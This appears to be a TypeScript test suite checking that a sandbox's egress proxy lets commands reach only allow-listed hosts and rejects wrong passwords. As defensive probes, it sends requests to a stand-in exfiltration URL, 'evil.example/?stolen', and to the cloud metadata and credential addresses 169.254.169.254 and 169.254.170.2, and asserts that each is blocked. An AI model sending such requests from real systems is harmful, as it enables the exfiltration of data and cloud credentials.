import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { type AttemptProxy, openAttemptProxy } from '../../../src/execution/egress/attempt-proxy.ts';
import { viewMachine } from '../../../src/execution/sandbox/machine-view.ts';
import { openSandbox } from '../../../src/execution/sandbox/open-sandbox.ts';
import { letPass, type Rung } from '../../../src/execution/sandbox/rung.ts';
import { defaultLimits } from '../../../src/execution/sandbox/sandbox-limits.ts';
import type { Sandbox, SandboxCommand } from '../../../src/ports/sandbox.ts';
import { fakeInternet } from '../../support/fake-internet.ts';

/** What a command that may use the attempt's proxy reaches, on every rung. */
export function describeEgress(rung: Rung): void {
  describe(`the way out of sandbox rung ${rung.name}`, () => {
    const root = realpathSync(mkdtempSync(join(tmpdir(), 'egress-')));
    const workspace = join(root, 'workspace');
    mkdirSync(workspace);
    if (rung.otherUser === true) letPass(root);
    const origin = createServer((_, answer) => answer.end('from the registry'));
    let proxy: AttemptProxy;
    let sandbox: Sandbox;
    before(async () => {
      await once(origin.listen(0, '127.0.0.1'), 'listening');
      const { port } = origin.address() as AddressInfo;
      proxy = await openAttemptProxy({
        hosts: ['registry.example'],
        folder: join(root, 'egress'),
        password: 'guess-me',
        reach: fakeInternet({ 'registry.example': { addresses: ['198.51.100.7'], port } }),
      });
      const view = viewMachine(process.env.PATH ?? '', dirname(process.execPath));
      const place = { visible: [workspace], scratch: join(root, 'scratch'), view, limits: defaultLimits };
      sandbox = openSandbox(rung, { ...place, egress: proxy }, { now: Date.now });
    });
    after(async () => {
      await proxy.close();
      origin.close();
      rmSync(root, { recursive: true, force: true });
    });
    const run = (argv: string[], change: Partial<SandboxCommand> = {}) =>
      sandbox.run({
        argv,
        cwd: workspace,
        writable: [workspace],
        environment: {},
        timeoutMs: 20_000,
        outputCapBytes: 65_536,
        network: 'egress',
        ...change,
      });
    const visit = (url: string) =>
      `const ask = require('node:http').request(process.env.http_proxy, { path: '${url}', headers: { host: 'x', 'proxy-authorization': 'Basic ' + Buffer.from(decodeURIComponent(new URL(process.env.http_proxy).username + ':' + new URL(process.env.http_proxy).password)).toString('base64') } }, (answer) => { answer.pipe(process.stdout); }).end();
       ask.on('error', (error) => console.log(error.code));`;

    it('leads to listed hosts and to no other', async () => {
      const reached = await run(['node', '-e', visit('http://registry.example/')]);
      assert.equal(reached.output, 'from the registry');
      assert.match(
        (await run(['node', '-e', visit('http://evil.example/?stolen')])).output,
        /host-not-listed/,
      );
      assert.match((await run(['node', '-e', visit('http://169.254.170.2/v2')])).output, /host-not-listed/);
      assert.deepEqual(proxy.blockedHosts(), ['evil.example', '169.254.170.2']);
    });

    it('is told to commands that may use it, and to no other', async () => {
      assert.match((await run(['env'])).output, /^https_proxy=http:\/\/job:guess-me@127\.0\.0\.1:\d+$/m);
      assert.doesNotMatch((await run(['env'], { network: 'none' })).output, /proxy|guess-me/i);
    });

    it('is closed for commands without it', { skip: rung.protection.network === 'machine' }, async () => {
      const port = rung.protection.network === 'own' ? 3128 : proxy.port;
      const script = `require('node:net').connect(${port}, '127.0.0.1').on('connect', () => { console.log('REACHED'); process.exit(); }).on('error', (error) => console.log(error.code)); require('node:fs').existsSync('/egress') && console.log('there');`;
      const code = rung.protection.network === 'own' ? 'ECONNREFUSED' : 'EAFNOSUPPORT';
      assert.equal((await run(['node', '-e', script], { network: 'none' })).output, `${code}\n`);
    });

    it('answers nobody who does not know its password', async () => {
      const port = rung.protection.network === 'own' ? 3128 : proxy.port;
      const script = `require('node:http').request({ host: '127.0.0.1', port: ${port}, path: 'http://registry.example/', headers: { 'proxy-authorization': 'Basic ' + Buffer.from('job:guessed').toString('base64') } }, (answer) => console.log(answer.statusCode)).end();`;
      assert.equal((await run(['node', '-e', script])).output, '407\n');
    });

    it('is all that a command with it reaches beside its own localhost', {
      skip:
        rung.protection.network === 'own' ? false : 'its network is the machine’s: the platform bounds it',
    }, async () => {
      const { port } = origin.address() as AddressInfo;
      const script = `const { connect } = require('node:net');
        for (const [host, port] of [['127.0.0.1', ${port}], ['127.0.0.1', ${proxy.port}], ['1.1.1.1', 443], ['169.254.169.254', 80], ['169.254.170.2', 80]])
          connect({ host, port, timeout: 3000 }).on('connect', () => console.log('REACHED', host, port)).on('error', (error) => console.log(error.code)).on('timeout', function () { this.destroy(); });
        const own = require('node:http').createServer((_, answer) => answer.end('own')).listen(0, '127.0.0.1', () =>
          require('node:http').get({ host: '127.0.0.1', port: own.address().port, agent: new (require('node:http').Agent)() }, (answer) => answer.on('data', (data) => console.log(String(data))).on('end', () => own.close())));`;
      const { output } = await run(['node', '-e', script]);
      assert.doesNotMatch(output, /REACHED/);
      assert.match(output, /^own$/m);
    });

    it('changes neither how a command ends nor what it is given', async () => {
      assert.equal((await run(['/bin/sh', '-c', 'exit 7'])).exitCode, 7);
      assert.equal((await run(['/bin/sh', '-c', 'kill -SEGV $$'])).signal, 'SIGSEGV');
      assert.equal((await run(['no-such-program'])).exitCode, 127);
      assert.equal((await run(['cat'], { stdin: 'given' })).output, 'given');
      const ended = await run(
        ['/bin/sh', '-c', 'trap "echo polite; exit 3" TERM; while :; do sleep 0.02; done'],
        {
          timeoutMs: 1_500,
        },
      );
      assert.match(ended.output, /polite/);
      assert.equal(ended.timedOut, true);
    });
  });
}
